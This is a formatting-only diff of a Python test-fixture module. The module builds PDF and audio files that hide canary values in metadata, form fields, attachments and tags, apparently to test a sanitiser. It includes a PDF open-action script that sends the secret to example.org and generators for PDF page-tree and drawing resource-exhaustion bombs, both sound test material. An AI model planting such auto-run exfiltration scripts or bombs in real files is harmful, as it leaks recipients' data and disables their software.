@@ -60,8 +60,11 @@ def pdf_script() -> tuple[bytes, str]:
     secret = canary("script")
     from pypdf.actions import JavaScript
 
-    return _with_writer(lambda writer: writer.add_open_action(JavaScript(
-        f"app.launchURL('https://example.org/{secret}', true);"))), secret
+    return _with_writer(
+        lambda writer: writer.add_open_action(
+            JavaScript(f"app.launchURL('https://example.org/{secret}', true);")
+        )
+    ), secret
 
 
 def pdf_link() -> tuple[bytes, str]:
@@ -79,15 +82,17 @@ def pdf_form() -> tuple[bytes, str]:
     def draw(page: object) -> None:
         # The field's value is kept by the form, shown only where a viewer draws the field.
         page.acroForm.textfield(  # type: ignore[attr-defined]
-            name="phone", tooltip=secret, value=secret, x=60, y=400, width=300, height=20)
+            name="phone", tooltip=secret, value=secret, x=60, y=400, width=300, height=20
+        )
 
     return _statement(draw), secret
 
 
 def pdf_embedded_file() -> tuple[bytes, str]:
     secret = canary("attached")
-    return _with_writer(lambda writer: writer.add_attachment(
-        "contacts.txt", f"mother: {secret}".encode())), secret
+    return _with_writer(
+        lambda writer: writer.add_attachment("contacts.txt", f"mother: {secret}".encode())
+    ), secret
 
 
 def pdf_hidden_text() -> tuple[bytes, str]:
@@ -111,7 +116,8 @@ def pdf_comment() -> tuple[bytes, str]:
 
     def change(writer: object) -> None:
         note = writer.add_annotation(  # type: ignore[attr-defined]
-            0, Text(rect=(400, 700, 420, 720), text=f"call {secret}"))
+            0, Text(rect=(400, 700, 420, 720), text=f"call {secret}")
+        )
         note[NameObject("/T")] = TextStringObject(secret)
 
     return _with_writer(change), secret
@@ -167,8 +173,15 @@ def mp3_id3v2() -> tuple[bytes, str]:
         tags = ID3()
         tags.add(TIT2(encoding=3, text=secret))
         tags.add(COMM(encoding=3, lang="rus", desc="", text=secret))
-        tags.add(APIC(encoding=3, mime="image/jpeg", type=3, desc=secret,
-                      data=b"\xff\xd8\xff\xe0" + secret.encode() + b"\xff\xfb\x90\x64" * 8))
+        tags.add(
+            APIC(
+                encoding=3,
+                mime="image/jpeg",
+                type=3,
+                desc=secret,
+                data=b"\xff\xd8\xff\xe0" + secret.encode() + b"\xff\xfb\x90\x64" * 8,
+            )
+        )
         tags.save(buffer)
 
     return _tagged("voice.mp3", tag), secret
@@ -178,8 +191,7 @@ def mp3_id3v1() -> tuple[bytes, str]:
     secret = canary("idone")
     original = (DATA / "voice.mp3").read_bytes()
     title = secret.encode().ljust(30, b"\x00")[:30]
-    return original + b"TAG" + title + bytes(30) + bytes(30) + b"2026" + bytes(30) + b"\xff", \
-        secret
+    return original + b"TAG" + title + bytes(30) + bytes(30) + b"2026" + bytes(30) + b"\xff", secret
 
 
 def mp3_apev2() -> tuple[bytes, str]:
@@ -237,7 +249,7 @@ def m4a_quicktime_atoms() -> tuple[bytes, str]:
     secret = canary("quicktime").encode()
     original = (DATA / "voice.m4a").read_bytes()
     moov_at = original.index(b"moov") - 4
-    size = struct.unpack(">I", original[moov_at:moov_at + 4])[0]
+    size = struct.unpack(">I", original[moov_at : moov_at + 4])[0]
     assert moov_at + size == len(original)  # the fixture ends with moov
     place = _box(b"udta", _box(b"\xa9xyz", struct.pack(">HH", len(secret), 0) + secret))
     extra = place + _box(b"uuid", bytes(16) + secret) + _box(b"free", secret)
@@ -282,8 +294,9 @@ def pdf_page_tree_bomb(depth: int = 6, fan: int = 10) -> bytes:
         number = 2 + level
         parent = b"" if level == 0 else b"/Parent %d 0 R" % (number - 1)
         kids = b" ".join([b"%d 0 R" % (number + 1)] * fan)
-        bodies.append(b"<< /Type /Pages %s /Kids [%s] /Count %d >>"
-                      % (parent, kids, fan ** (depth - level)))
+        bodies.append(
+            b"<< /Type /Pages %s /Kids [%s] /Count %d >>" % (parent, kids, fan ** (depth - level))
+        )
     bodies.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 600 800] >>" % (depth + 1))
     return _pdf(bodies)
 
@@ -306,6 +319,8 @@ def pdf_drawing_bomb(depth: int = 9, fan: int = 10) -> bytes:
         else:
             content = b" ".join([b"/X Do"] * fan)
             resources = b"/Resources << /XObject << /X %d 0 R >> >>" % (first_form + level + 1)
-        bodies.append(b"<< /Type /XObject /Subtype /Form /BBox [0 0 600 800] %s /Length %d >>"
-                      b"\nstream\n" % (resources, len(content)) + content + b"\nendstream")
+        bodies.append(
+            b"<< /Type /XObject /Subtype /Form /BBox [0 0 600 800] %s /Length %d >>"
+            b"\nstream\n" % (resources, len(content)) + content + b"\nendstream"
+        )
     return _pdf(bodies)
